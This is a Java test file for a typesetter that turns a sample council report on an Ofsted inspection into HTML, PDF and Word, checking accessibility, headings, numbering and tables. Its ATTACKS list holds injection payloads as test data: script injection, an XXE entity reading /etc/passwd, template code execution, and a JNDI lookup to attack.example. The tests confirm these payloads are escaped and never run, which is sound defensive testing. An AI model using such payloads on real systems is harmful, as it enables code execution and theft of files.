package org.inspectionresponse.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.apache.poi.xwpf.usermodel.XWPFTable;
import org.inspectionresponse.support.LibreOffice;
import org.inspectionresponse.support.NuChecker;
import org.inspectionresponse.support.Verapdf;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.springframework.context.support.StaticApplicationContext;
import org.thymeleaf.spring6.SpringTemplateEngine;
import org.thymeleaf.templateresolver.ClassLoaderTemplateResolver;

class TypesetterTest {

    private static final Typesetter typesetter = typesetter();
    private static final String SAMPLE = sample(Map.of());
    private static final List<String> ATTACKS = List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
            "' onmouseover='alert(1)", "<style>@page { size: 1mm }</style>", "<!-- comment", "]]>", "&lt;b&gt;",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "${7*7}", "*{7*7}", "#{7*7}", "@{7*7}", "~{home}",
            "__${7*7}__", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::x", "[[${7*7}]]", "[(${7*7})]", "${jndi:ldap://attack.example/a}",
            "#set($x=7*7)$x", "<%= 7*7 %>", "{INCLUDETEXT \"file:///etc/passwd\"}", "=1+1", "%s%n%x", "{0} {1}", "\\u202e\\n", "O'Brien-Smith");

    @Test
    void pdfIsReadableByEverybodyAndFitToBeKept() {
        Verapdf.passes(typesetter.pdf(SAMPLE));
    }

    @Test
    void pdfSaysItsTitleItsLanguageItsDateAndItsHeadings() throws IOException {
        try (PDDocument pdf = Loader.loadPDF(typesetter.pdf(SAMPLE))) {
            assertThat(pdf.getDocumentInformation().getTitle()).isEqualTo("Ofsted inspection of local authority children’s services");
            assertThat(pdf.getDocumentInformation().getSubject()).isEqualTo("A report to a committee");
            assertThat(pdf.getDocumentInformation().getAuthor()).isEqualTo("Nottinghamshire County Council");
            assertThat(pdf.getDocumentInformation().getCreationDate().toInstant()).isEqualTo("2019-12-19T14:02:00Z");
            assertThat(pdf.getDocumentCatalog().getLanguage()).isEqualTo("en-GB");
            Iterable<PDOutlineItem> bookmarks = pdf.getDocumentCatalog().getDocumentOutline().children();
            assertThat(bookmarks).extracting(PDOutlineItem::getTitle).startsWith("Ofsted inspection of local authority children’s services")
                    .contains("Purpose of the report", "4 Finance colleague comments");
        }
    }

    @Test
    void everyPageOfAPdfSaysThatItIsADraftWhoseItIsAndWhichPage() throws IOException {
        try (PDDocument pdf = Loader.loadPDF(typesetter.pdf(SAMPLE))) {
            assertThat(pdf.getNumberOfPages()).isGreaterThan(1);
            for (int page = 1; page <= pdf.getNumberOfPages(); page++) {
                PDFTextStripper text = new PDFTextStripper();
                text.setStartPage(page);
                text.setEndPage(page);
                assertThat(text.getText(pdf)).contains("Draft", "Version 3", "Financial comments are outstanding", "RPT-NCC-2019-001",
                        "Page " + page + " of " + pdf.getNumberOfPages());
            }
        }
    }

    @Test
    void aPublishedDocumentHasNoStamp() throws IOException {
        Map<String, Object> published = new HashMap<>();
        published.put("stamp", null);
        published.put("notes", List.of());
        String html = sample(published);

        assertThat(html).doesNotContain("Draft");
        assertThat(textOf(typesetter.pdf(html))).doesNotContain("Draft").contains("Page 1 of");
        try (XWPFDocument word = open(typesetter.word(html))) {
            assertThat(word.getHeaderList().get(0).getText()).isBlank();
        }
    }

    @Test
    void theSameTextGivesTheSameBytes() {
        assertThat(typesetter.pdf(SAMPLE)).isEqualTo(typesetter.pdf(SAMPLE));
        assertThat(typesetter.word(SAMPLE)).isEqualTo(typesetter.word(SAMPLE));
        assertThat(sample(Map.of())).isEqualTo(SAMPLE);
    }

    @Test
    void documentWithoutAMomentIsRefused() {
        assertThatThrownBy(() -> typesetter.word("<html><body><p>Text</p></body></html>")).isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("when it is made");
    }

    @Test
    void wordKeepsHeadingsByTheirStyles() throws IOException {
        try (XWPFDocument word = open(typesetter.word(SAMPLE))) {
            assertThat(word.getParagraphs()).filteredOn(line -> "Title".equals(line.getStyle())).extracting(XWPFParagraph::getText)
                    .containsExactly("Ofsted inspection of local authority children’s services");
            assertThat(word.getParagraphs()).filteredOn(line -> "Heading1".equals(line.getStyle())).extracting(XWPFParagraph::getText)
                    .containsExactly("Purpose of the report", "Information", "Finance colleague comments", "Legal colleague comments",
                            "Recommendations");
            assertThat(word.getStyles().getStyle("Heading1").getName()).isEqualTo("heading 1");
            assertThat(word.getProperties().getCoreProperties().getTitle()).isEqualTo("Ofsted inspection of local authority children’s services");
            assertThat(word.getProperties().getCoreProperties().getCreated().toInstant()).isEqualTo("2019-12-19T14:02:00Z");
        }
    }

    @Test
    void wordRepeatsTheHeadOfATableAndKeepsItsCells() throws IOException {
        try (XWPFDocument word = open(typesetter.word(SAMPLE))) {
            XWPFTable table = word.getTables().get(0);
            assertThat(table.getRow(0).isRepeatHeader()).isTrue();
            assertThat(table.getRow(1).isRepeatHeader()).isFalse();
            assertThat(table.getRows()).extracting(row -> row.getTableCells().stream().map(cell -> cell.getText()).toList())
                    .containsExactly(List.of("Judgement", "Grade", "Cost in pounds"),
                            List.of("The impact of leaders on social work practice", "Good", "1,576,000.00"),
                            List.of("Overall effectiveness", "Good"));
        }
    }

    @Test
    void numbersOfParagraphsAreRealNumbersInWord() throws IOException {
        try (XWPFDocument word = open(typesetter.word(SAMPLE))) {
            XWPFParagraph first = line(word, "The purpose of this report is to update the committee.");
            XWPFParagraph clause = line(word, "The plan aims to address the findings.");
            assertThat(first.getNumLevelText()).isEqualTo("%1.");
            assertThat(line(word, "Plain text").getNumID()).isEqualTo(first.getNumID());
            assertThat(clause.getNumLevelText()).isEqualTo("%1.%2");
            assertThat(line(word, "Legal colleague comments").getNumID()).isEqualTo(clause.getNumID());
            assertThat(line(word, "Nothing is stated here.").getNumID()).isNull();
        }
    }

    @Test
    void numbersOfParagraphsAreTextInHtmlAndPdf() throws IOException {
        assertThat(SAMPLE).contains("<span class=\"number\">1.</span> The purpose", "<span class=\"number\">4.2</span> The total cost");
        assertThat(textOf(typesetter.pdf(SAMPLE))).containsPattern("1\\. *The purpose of this report").containsPattern("4\\.2 *The total cost");
    }

    @Test
    void linksOfWordLeadWhereTheyLeadInHtml() throws IOException {
        try (XWPFDocument word = open(typesetter.word(SAMPLE))) {
            assertThat(Stream.of(word.getHyperlinks())).extracting(link -> link.getURL()).containsExactly("https://www.gov.uk/a%20b",
                    "mailto:name@example.org");
        }
    }

    @Test
    void htmlIsValid() {
        assertThat(NuChecker.problems(Map.of("sample", SAMPLE))).isEmpty();
    }

    @Test
    void otherProgramsReadHeadingsNumbersListsAndTablesOfWord() {
        String read = LibreOffice.read(Map.of("sample", typesetter.word(SAMPLE))).get("sample");

        Document document = Jsoup.parse(read);
        assertThat(document.select("h1").eachText()).containsExactly("Purpose of the report", "Information", "4Finance colleague comments",
                "5Legal colleague comments", "Recommendations");
        assertThat(document.select("table tr")).hasSize(3);
        assertThat(withoutSpace(document.text())).contains("1.Thepurposeofthisreport", "3.Plaintext", "a)thequality", "b)theconsistency",
                "4.2Thetotalcost", "5.1Notapplicable", "3.Thatthecommitteeagrees", "Judgements", "☒Revenue(ticked)");
    }

    @Test
    void allThreeFormatsOfTheSampleCanBeLookedAt() throws IOException {
        Path folder = Files.createDirectories(Path.of("target/documents"));
        Files.writeString(folder.resolve("sample.html"), SAMPLE);
        Files.write(folder.resolve("sample.pdf"), typesetter.pdf(SAMPLE));
        Files.write(folder.resolve("sample.docx"), typesetter.word(SAMPLE));
        assertThat(folder.resolve("sample.pdf")).isNotEmptyFile();
    }

    /** Typed as text, as formatted text, as a title and into the running head. */
    @Test
    void whatIsTypedIsShownAsTypedAndNeverRun() throws IOException {
        String all = String.join(" | ", ATTACKS);
        String formatted = ATTACKS.stream().map(typed -> "<p>" + escaped(typed) + "</p>").collect(Collectors.joining());
        String html = sample(Map.of("plain", all, "title", all, "stamp", "${7*7}<script>", "notes", ATTACKS, "text", RichText.clean(formatted)));

        byte[] pdf = typesetter.pdf(html);
        assertThat(html).doesNotContain("<script", "<img", "<svg", "49");
        assertThat(withoutSpace(textOf(pdf))).contains(ATTACKS.stream().map(TypesetterTest::withoutSpace).toList()).doesNotContain("49");
        Verapdf.passes(pdf);
        try (XWPFDocument word = open(typesetter.word(html))) {
            assertThat(word.getParagraphs()).extracting(XWPFParagraph::getText).containsAll(ATTACKS).contains(all);
        }
    }

    @Test
    void textNoFontShowsIsNamedAndTheDocumentStaysValid() throws IOException {
        List<String> all = List.of("control \u0000\u0007\u001b[31m\u007f\u0085 characters", "turned \u202E round \u2066 and \u2069 back \u200F\u200E\uFEFF",
                "half a pair \uD83D alone", "李小龍 and Łódź, Ωμέγα, Привет, שלום, مرحبا", "family 👩\u200d👩\u200d👧\u200d👦 ok ☐☑☒→✓",
                "Á" + "\u0301".repeat(500), "private \uF0B7 use, unassigned \u0378, not a character \uFFFF", "soft\u00ADhyphen no\u00A0break zero\u200Bwidth");
        String formatted = all.stream().map(typed -> "<p>%1$s <strong>%1$s</strong> <em>%1$s</em> <strong><em>%1$s</em></strong></p>".formatted(typed))
                .collect(Collectors.joining());
        String html = sample(Map.of("plain", String.join(" | ", all), "title", String.join(" ", all), "text", RichText.clean(formatted)));

        byte[] pdf = typesetter.pdf(html);
        Verapdf.passes(pdf);
        assertThat(withoutSpace(textOf(pdf))).contains("CJKUNIFIEDIDEOGRAPHS674E", "Łódź,Ωμέγα,Привет", "☐☑☒→✓");
        try (XWPFDocument word = open(typesetter.word(html))) {
            assertThat(word.getParagraphs()).extracting(XWPFParagraph::getText).anyMatch(text -> text.startsWith("李小龍 and Łódź, Ωμέγα, Привет, שלום, مرحبا"));
        }
    }

    @Test
    void turningAndControlCharactersAreShownByName() {
        assertThat(sample(Map.of("plain", "Alice\u202Eecila\u0007"))).contains("Alice[RIGHT-TO-LEFT OVERRIDE]ecila[U+0007]");
    }

    @Test
    void hugeTextIsSetOnAsManyPagesAsItNeeds() throws IOException {
        String oneWord = IntStream.range(0, 3_000).mapToObj(i -> "W" + i).collect(Collectors.joining());
        String html = sample(Map.of("plain", oneWord, "text", "<p>" + IntStream.range(0, 3_000).mapToObj(i -> "w" + i).collect(Collectors.joining(" ")) + "</p>"));

        assertThat(withoutSpace(textOf(typesetter.pdf(html)))).contains("W2999", "w2999");
        try (XWPFDocument word = open(typesetter.word(html))) {
            assertThat(line(word, oneWord)).isNotNull();
        }
    }

    /** Preprocessing evaluates a value's text once more; inlining in HTML may leave it unescaped. */
    @Test
    void noTemplateEvaluatesWhatIsTyped() throws IOException {
        try (Stream<Path> files = Files.walk(Path.of("src/main/resources/templates"))) {
            assertThat(files.filter(Files::isRegularFile)).isNotEmpty().allSatisfy(file -> assertThat(Files.readString(file))
                    .doesNotContain(file.toString().endsWith(".txt") ? List.of("__$", "__*") : List.of("__$", "__*", "[(", "[[")));
        }
    }

    private static String sample(Map<String, Object> other) {
        Map<String, Object> values = new HashMap<>(Map.of("title", "Ofsted inspection of local authority children’s services", "stamp", "Draft",
                "notes", List.of("Version 3", "Financial comments are outstanding"), "made", Instant.parse("2019-12-19T14:02:00Z"),
                "text", "<p>In <strong>October</strong> 2019, <em>Ofsted</em> inspected.</p>", "plain", "Plain text"));
        values.putAll(other);
        return typesetter.html("sample", values);
    }

    private static String escaped(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;");
    }

    private static String withoutSpace(String text) {
        return text.replaceAll("\\s+", "");
    }

    private static String textOf(byte[] pdf) throws IOException {
        try (PDDocument document = Loader.loadPDF(pdf)) {
            return new PDFTextStripper().getText(document);
        }
    }

    private static XWPFDocument open(byte[] docx) throws IOException {
        return new XWPFDocument(new ByteArrayInputStream(docx));
    }

    private static XWPFParagraph line(XWPFDocument word, String text) {
        return word.getParagraphs().stream().filter(line -> line.getText().equals(text)).findFirst().orElseThrow();
    }

    private static Typesetter typesetter() {
        ClassLoaderTemplateResolver resolver = new ClassLoaderTemplateResolver();
        resolver.setPrefix("templates/");
        resolver.setSuffix(".html");
        resolver.setCharacterEncoding("UTF-8");
        SpringTemplateEngine engine = new SpringTemplateEngine();
        engine.setTemplateResolver(resolver);
        return new Typesetter(engine, new StaticApplicationContext());
    }
}
